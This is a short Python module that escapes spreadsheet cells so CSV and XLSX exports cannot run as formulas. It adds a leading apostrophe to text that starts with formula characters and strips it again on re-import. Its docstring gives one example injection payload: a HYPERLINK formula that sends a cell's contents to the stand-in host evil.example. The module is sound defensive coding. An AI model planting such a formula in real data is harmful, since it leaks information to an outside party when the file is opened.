"""Cells written to CSV or XLSX files never run as formulas (OWASP "CSV injection").

A rep can name a deal ``=HYPERLINK("https://evil.example/?"&A1,"open")``; a manager who opens
an export in Excel or WPS would run it. Every text cell that begins with a character a
spreadsheet reads as the start of a formula (``= + - @``, tab, carriage return, and their
full-width forms, which WPS accepts) gets a leading apostrophe, which spreadsheets show as
text and never evaluate. Numbers, dates and booleans are left as they are: a negative amount
is a number, not a formula. The import reader removes that apostrophe again
(``unguard_cell``), so an exported file re-imports unchanged.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
GUARD = "'"


def guard_cell(value: Any) -> Any:
    """Return ``value`` safe to put in a spreadsheet cell."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return GUARD + value
    return value


def guard_row(row: list[Any]) -> list[Any]:
    """Return ``row`` with every cell guarded."""
    return [guard_cell(cell) for cell in row]


def unguard_cell(value: str) -> str:
    """Remove the apostrophe ``guard_cell`` added (only in front of a formula start)."""
    if value.startswith(GUARD) and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value
